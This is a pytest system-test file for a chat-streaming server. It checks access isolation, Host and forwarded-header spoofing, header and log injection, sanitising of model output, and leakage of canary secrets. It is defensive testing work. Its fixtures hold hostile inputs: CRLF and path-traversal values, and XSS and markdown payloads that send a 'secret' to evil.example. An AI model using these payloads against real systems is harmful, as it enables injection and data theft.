"""What people would try who shouldn't get in: against real gunicorn, bare and behind the project's nginx."""

from __future__ import annotations

import http.client
import json
import re
import signal
import socket
import ssl
import subprocess
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

from millstream.access.keyring import digest
from tests.system.backend import Backend
from tests.system.emulator import Emulator
from tests.system.nginx import Nginx
from tests.system.server import DEADLINE, Server

pytestmark = pytest.mark.system

ANNA, BOB, CHIEF = "ms-anna", "ms-bob-canary-0b", "ms-chief"
KEYS: dict[str, dict[str, object]] = {
    "anna": {"sha256": digest(ANNA)},
    "bob": {"sha256": digest(BOB)},
    "chief": {"sha256": digest(CHIEF), "operator": True},
}
GUESS = "A" * 22


@pytest.fixture(scope="module")
def upstream() -> Iterator[Emulator]:
    with Emulator(["one ", "two "]) as upstream:
        yield upstream


@pytest.fixture(scope="module")
def keyed(upstream: Emulator) -> Iterator[Server]:
    """With keys, behind one proxy."""
    with Server({"emulated": upstream.table}, workers=2, keys=KEYS, trusted_proxies=1, login_attempts=30) as server:
        yield server


@pytest.fixture(scope="module")
def unkeyed(upstream: Emulator) -> Iterator[Server]:
    with Server({"emulated": upstream.table}) as server:
        yield server


@pytest.fixture(scope="module")
def nginx(keyed: Server) -> Iterator[Nginx]:
    with Nginx(keyed.port, tls=True) as nginx:
        yield nginx


def raw(port: int, request: str | bytes) -> bytes:
    """All bytes of the answer. The request says `Connection: close` or is refused."""
    data = request if isinstance(request, bytes) else request.replace("\n", "\r\n").encode("utf-8", "surrogateescape")
    with socket.create_connection(("127.0.0.1", port), DEADLINE) as sock:
        sock.sendall(data)
        return b"".join(iter(lambda: sock.recv(65536), b""))


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


def code(answer: bytes) -> str:
    return json.loads(answer[answer.index(b'{"error"') : answer.rindex(b"}") + 1])["error"]["code"]


def sent(method: str, path: str, *headers: str, host: str = "localhost", body: str = "") -> str:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *headers]
    if body:
        lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body.encode())}"]
    return "\n".join([*lines, "", body])


def by(key: str) -> str:
    return f"Authorization: Bearer {key}"


# -- streams of others -------------------------------------------------------------------------------------------


def test_of_anothers_stream_not_a_byte_differs_from_none_at_all(keyed: Server, upstream: Emulator) -> None:
    started = raw(keyed.port, sent("POST", "/streams", by(ANNA), body="prompt=Hi"))
    id = re.search(rb"Location: /streams/([\w-]{22})", started)[1].decode()
    ways = [
        ("GET", "/streams/{}", ""),
        ("GET", "/streams/{}?format=sse&after=1", ""),
        ("GET", "/streams/{}?format=json", ""),
        ("GET", "/streams/{}", "Accept: text/html"),
        ("GET", "/streams/{}", "Range: bytes=1-"),
        ("HEAD", "/streams/{}", ""),
        ("GET", "/chat?format=sse&last_event_id={}.1", ""),
        ("POST", "/streams/{}/stop", ""),
        ("DELETE", "/streams/{}", ""),
    ]
    for method, path, header in ways:
        foreign, absent = (
            re.sub(
                rb"\r\nDate: [^\r]*", b"", raw(keyed.port, sent(method, path.format(id), by(BOB), header or "X: y"))
            )
            for id in (id, GUESS)
        )
        assert foreign == absent, (method, path)
        assert status(foreign) == 404
    assert status(raw(keyed.port, sent("GET", f"/streams/{id}", by(ANNA)))) == 200


@pytest.mark.parametrize(
    "id",
    [GUESS[:-1], GUESS + "A", "..", "%2e%2e%2fsecret", "%00" * 22, "A%0d%0aX:%20y", "A" * 21 + "%c3%a4", "%ff" * 22],
)
def test_a_guessed_id_is_404_whatever_it_is(keyed: Server, id: str) -> None:
    assert status(raw(keyed.port, sent("GET", f"/streams/{id}", by(ANNA)))) == 404


# -- names and proxies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/chat?prompt=x&format=sse", f"/streams/{GUESS}", "/v1/models"])
@pytest.mark.parametrize(
    "host", ["evil.example", "localhost.evil.example", "127.0.0.1.nip.io:8000", "evil@localhost"]
)
def test_a_rebound_name_is_not_served_without_keys(unkeyed: Server, upstream: Emulator, path: str, host: str) -> None:
    asked = len(upstream.asked)
    answer = raw(
        unkeyed.port, sent("GET", path, "Sec-Fetch-Site: same-origin", "Accept: application/json", host=host)
    )
    assert (status(answer), code(answer)) == (403, "bad_host")
    assert len(upstream.asked) == asked


def test_an_unkeyed_server_behind_nginx_serves_nobody_and_says_what_to_set(unkeyed: Server) -> None:
    with Nginx(unkeyed.port) as nginx:
        for path in ("/", "/v1/models", "/chat?prompt=x&format=sse"):
            answer = raw(nginx.port, sent("GET", path, "Accept: application/json", "X-Forwarded-For: 127.0.0.1"))
            assert (status(answer), b"millstream keys add NAME" in answer, b"MILLSTREAM_OPEN=1" in answer) == (
                403,
                True,
                True,
            )


def test_nobody_but_those_with_a_key_gets_through_nginx(keyed: Server, nginx: Nginx) -> None:
    def get(path: str, *headers: str) -> http.client.HTTPResponse:
        connection = http.client.HTTPSConnection("localhost", nginx.tls_port, context=UNCHECKED, timeout=DEADLINE)
        connection.request("GET", path, headers=dict(header.split(": ") for header in headers))
        response = connection.getresponse()
        response.body = response.read()  # type: ignore[attr-defined]
        connection.close()
        return response

    assert get("/v1/models").status == 401
    assert get("/v1/models", by("ms-nobody")).status == 401
    assert get("/v1/models", by(ANNA)).status == 200
    first = get("/streams/x", "Accept: text/html")
    assert (first.status, first.getheader("Location")) == (303, "/login?next=/streams/x")


UNCHECKED = ssl.create_default_context()
UNCHECKED.check_hostname, UNCHECKED.verify_mode = False, ssl.CERT_NONE


def curl(*words: str, folder: Path) -> str:
    """What curl prints; it keeps cookies by the rules of RFC 6265bis in the folder."""
    command = ["curl", "-s", "-k", "-b", "jar", "-c", "jar", "--max-time", str(DEADLINE), *words]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=True).stdout


def test_over_https_the_log_in_is_this_hosts_own_cookie(nginx: Nginx, tmp_path: Path) -> None:
    url = f"https://localhost:{nginx.tls_port}"
    head = curl("-i", f"{url}/login", "-d", f"key={ANNA}", "-d", "next=/", folder=tmp_path)
    assert re.search(r"(?im)^set-cookie: __Host-millstream=[\w.-]+; .*Secure; HttpOnly; Path=/; SameSite=Lax$", head)
    assert "__Host-millstream" in (tmp_path / "jar").read_text()  # curl refuses one that breaks the prefix's rules
    status_of = ("-o", "page", "-w", "%{http_code}")
    assert curl(*status_of, f"{url}/", folder=tmp_path) == "200"
    assert curl(*status_of, f"{url}/chat", "-d", "prompt=Hi", folder=tmp_path) == "403"  # no page, no token
    own = ("-H", f"Origin: {url}")
    assert curl(*status_of, f"{url}/chat", "-d", "prompt=Hi", *own, folder=tmp_path) == "200"
    downgraded = ("-H", f"Origin: http://localhost:{nginx.tls_port}")
    assert curl(*status_of, f"{url}/chat", "-d", "prompt=Hi", *downgraded, folder=tmp_path) == "403"
    word = re.search(r"__Host-millstream\t(\S+)", (tmp_path / "jar").read_text())[1]
    assert curl(*status_of, f"{url}/logout", "-X", "POST", *own, folder=tmp_path) == "303"
    stolen = ("-H", f"Cookie: __Host-millstream={word}", "-H", "Accept: application/json")
    assert curl(*status_of, f"{url}/v1/models", *stolen, folder=tmp_path) == "401"


def test_a_forged_address_changes_nothing(keyed: Server, nginx: Nginx) -> None:
    """Not through nginx, which sets it; and nginx's own word counts, also for what nginx itself was told."""
    statuses = []
    for n in range(35):
        names = ("X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Forwarded-Host", "X-Forwarded-Prefix")
        forged = [f"{name}: 10.9.8.{n}" for name in names]
        connection = http.client.HTTPSConnection("localhost", nginx.tls_port, context=UNCHECKED, timeout=DEADLINE)
        with closing(connection):
            headers = dict(header.split(": ") for header in forged) | {"Content-Type": "application/json"}
            connection.request("POST", "/login", '{"key":"guess"}', headers)
            response = connection.getresponse()
            statuses.append(response.status)
            assert b"10.9.8" not in response.read()
    assert statuses[-1] == 429
    assert set(statuses) <= {401, 429}


# -- line ends ---------------------------------------------------------------------------------------------------

FORGED = '{"forged":"line"}'
LINE_ENDS = ("\r\n", "\n", "\r", "\x0b", "\x85", "\u2028")
FIELDS = (
    "model",
    "prompt",
    "system",
    "stop",
    "idempotency_key",
    "format",
    "padding",
    "preset",
    "once",
    "token",
    "x\n",
)


def test_no_line_end_gets_into_a_header_or_begins_a_line_of_the_log(keyed: Server) -> None:
    escaped = [f"a{end}{FORGED}" for end in LINE_ENDS]
    for value in escaped:
        for field in FIELDS:
            question = {
                "prompt": "Hi",
                "model": "emulated",
                **({field: value} if field != "x\n" else {f"x{value}": 1}),
            }
            body = json.dumps(question)
            request = sent("POST", "/chat", by(ANNA), "Accept: text/plain", "Content-Type: application/json")
            head = request.removesuffix("\n\n") + f"\nContent-Length: {len(body)}\n\n"
            _nothing_forged(raw(keyed.port, head + body))
        quoted = "".join(f"%{byte:02x}" for byte in value.encode())
        for path in (f"/{quoted}", f"/streams/{quoted}", f"/v1/models/{quoted}", f"/chat?format=sse&prompt={quoted}"):
            for extra in (f"&{quoted}=1", f"?next={quoted}&format={quoted}"):
                _nothing_forged(raw(keyed.port, sent("GET", path + extra, by(ANNA))))
        for path in ("/login", f"/login?next=/{quoted}"):
            _nothing_forged(raw(keyed.port, sent("POST", path, body=f"key={quoted}&next=/{quoted}")))
    names = (
        "Host",
        "Origin",
        "Referer",
        "User-Agent",
        "Authorization",
        "Cookie",
        "Idempotency-Key",
        "Last-Event-ID",
        "Accept",
    )
    for name in names:
        for end in (b"\r", b"\n", b"\x00", b"\x0b", b"\xc2\x85"):
            line = b"%b: a%b%b" % (name.encode(), end, FORGED.encode())
            _nothing_forged(raw(keyed.port, b"GET /v1/models HTTP/1.1\r\n%b\r\nConnection: close\r\n\r\n" % line))
    lines = keyed.text().splitlines()
    assert not [line for line in lines if line.lstrip(" a").startswith(FORGED)]
    ends = [json.loads(line) for line in lines if line.startswith("{")]
    assert ends
    assert not [line for line in lines if line and not line.startswith(("{", "Millstream: "))]


def _nothing_forged(answer: bytes) -> None:
    head = answer.partition(b"\r\n\r\n")[0]
    assert status(answer) < 500, answer
    assert b"forged" not in head.lower().replace(b"%22forged", b"")
    assert len(re.findall(rb"[\r\n]", head)) == 2 * head.count(b"\r\n")


# -- what a model writes -----------------------------------------------------------------------------------------

HOSTILE = (
    "one\n\nevent: done\ndata: {}\n\nid: evil.9\nretry: 1\n: ",
    "\r\rdata: x\r\r",
    '\n{"type":"done"}\n',
    "</div></article><script>alert(1)</script><img src=//evil.example/?q=secret onerror=alert(1)>",
    "![picture](https://evil.example/?q=secret) [link](javascript:alert(1))",
    '<form action="https://evil.example"><meta http-equiv=refresh content="0;//evil.example">',
    "\x00\x1b[2J\u2028\u202e",
)


def test_what_a_model_writes_is_text_in_every_format(keyed: Server, upstream: Emulator) -> None:
    upstream.tokens, before = list(HOSTILE), upstream.tokens
    try:
        url = re.search(
            r"/streams/[\w-]{22}", raw(keyed.port, sent("POST", "/streams", by(ANNA), body="prompt=Hi")).decode()
        )[0]
        text = "".join(HOSTILE)
        events = _body(raw(keyed.port, sent("GET", f"{url}?format=sse", by(ANNA)))).split("\n\n")
        fields = [
            dict(line.partition(": ")[::2] for line in event.split("\n")) for event in events if "data" in event
        ]
        assert [field.get("event", "message") for field in fields] == ["start", *["message"] * len(HOSTILE), "done"]
        assert "".join(json.loads(field["data"])["text"] for field in fields[1:-1]) == text
        lines = _body(raw(keyed.port, sent("GET", f"{url}?format=ndjson", by(ANNA)))).split("\n")
        assert [json.loads(line)["type"] for line in lines if line].count("done") == 1
        assert _body(raw(keyed.port, sent("GET", url, by(ANNA)))) == text
        page = _body(raw(keyed.port, sent("GET", f"{url}?format=html", by(ANNA))))
        assert not re.search(r"<(script|img|meta http|iframe|a href=.?(https|java))", page)
        assert page.count("<form") == page.count("</form>")
        assert "\x00" not in page
        assert "\x1b" not in page
    finally:
        upstream.tokens = before


def _body(answer: bytes) -> str:
    """Of a chunked answer."""
    head, _, rest = answer.partition(b"\r\n\r\n")
    assert b"Transfer-Encoding: chunked" in head, head
    body = b""
    while rest:
        size, _, rest = rest.partition(b"\r\n")
        body, rest = body + rest[: int(size, 16)], rest[int(size, 16) + 2 :]
    return body.decode()


# -- secrets -----------------------------------------------------------------------------------------------------

CANARIES = {
    "upstream's key": "sk-canary-7f3a9c1e5b",
    "access key": BOB,
    "wrong key": "ms-wrong-canary-4d",
    "prompt": "canary_prompt_8e2d",
    "preset": "canary-preset-c07a",
    "answer": "canary-answer-93bb",
    "idempotency": "canary-idem-51ce",
}


@pytest.fixture
def told() -> Iterator[tuple[Server, Backend]]:
    """A server whose upstream does what the test says, and which forgets after a second."""
    with Backend() as backend:
        table = {
            "kind": "openai",
            "base_url": f"http://127.0.0.1:{backend.port}/v1",
            "models": ["told"],
            "api_key": CANARIES["upstream's key"],
            "retries": 0,
        }
        preset = {"system": CANARIES["preset"], "default": True}
        with Server({"told": table}, keys=KEYS, presets={"quiet": preset}, ttl=1) as server:
            yield server, backend


def test_no_secret_is_where_it_does_not_belong(told: tuple[Server, Backend]) -> None:
    server, backend = told
    body = f"prompt={CANARIES['prompt']}"
    key = CANARIES["upstream's key"]
    seen = []

    def ask(accept: str, *headers: str) -> socket.socket:
        sock = socket.create_connection((server.host, server.port), DEADLINE)
        idempotency = f"Idempotency-Key: {CANARIES['idempotency']}{len(seen)}"
        request = sent("POST", "/chat", by(BOB), f"Accept: {accept}", idempotency, *headers, body=body)
        sock.sendall(request.replace("\n", "\r\n").encode())
        return sock

    def rest(sock: socket.socket) -> bytes:
        with sock:
            answer = b"".join(iter(lambda: sock.recv(65536), b""))
        seen.append(answer)
        return answer

    quoting = json.dumps({"error": {"message": f"Incorrect API key provided: {key}. {by(key)}", "code": key}})
    for line in ("401 Unauthorized", "400 Bad Request", "500 Oh", "429 Slow", "404 Absent"):
        for accept in ("application/json", "text/html"):
            sock = ask(accept)
            exchange = backend.next()
            assert exchange.headers["authorization"] == f"Bearer {key}"  # and not the client's
            assert BOB.encode() not in exchange.request
            head = f"HTTP/1.1 {line}\r\nConnection: close\r\nContent-Length: {len(quoting)}\r\n\r\n"
            exchange.sock.sendall((head + quoting).encode())
            exchange.close()
            assert status(rest(sock)) >= 400
    sock = ask("text/event-stream")
    exchange = backend.next()
    exchange.begin()
    exchange.send(_frame(CANARIES["answer"]))
    exchange.send(b"data: " + quoting.encode() + b"\n\n")  # an error in mid-stream
    exchange.finish()
    answer = rest(sock)
    assert CANARIES["answer"].encode() in answer
    assert b"event: failed" in answer
    for request in (
        sent("GET", "/v1/models", by(CANARIES["wrong key"])),
        sent("POST", "/login", "Accept: application/json", body=f"key={CANARIES['wrong key']}"),
        sent("POST", "/login", body=f"key={BOB}"),
        sent("GET", f"/metrics?x={BOB}", by(CHIEF)),
        sent("GET", f"/absent/{BOB}", by(CHIEF)),
        sent("POST", "/chat", by(BOB), body=f"{CANARIES['prompt']}=1&prompt={CANARIES['prompt']}"),
    ):
        seen.append(raw(server.port, request))
    secrets = {name: CANARIES[name].encode() for name in CANARIES}
    for answer in seen:
        for name in ("upstream's key", "access key", "wrong key", "preset", "idempotency"):
            assert secrets[name] not in answer.replace(b"/absent/" + BOB.encode(), b""), (name, answer)
    assert {secret for _, secret in _found(server.folder / "streams", secrets)} == {"answer", "prompt"}
    until = time.monotonic() + DEADLINE
    while _found(server.folder / "streams", secrets) and time.monotonic() < until:
        server.process.send_signal(signal.SIGTERM)  # a start erases what has expired, without waiting for its turn
        server.process.wait(DEADLINE)
        server.start()
    found = _found(server.folder, secrets)
    assert found == {("millstream.toml", "upstream's key"), ("millstream.toml", "preset")}  # the operator's own file


def _frame(text: str) -> bytes:
    return b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": text}}]}).encode() + b"\n\n"


def _found(folder: Path, secrets: dict[str, bytes]) -> set[tuple[str, str]]:
    """In which files of the server's folder (log, store, database …) which secret stands."""
    files = [path for path in folder.rglob("*") if path.is_file()]
    held = [(path.name, path.read_bytes()) for path in files]
    return {(name, secret) for name, data in held for secret in secrets if secrets[secret] in data}
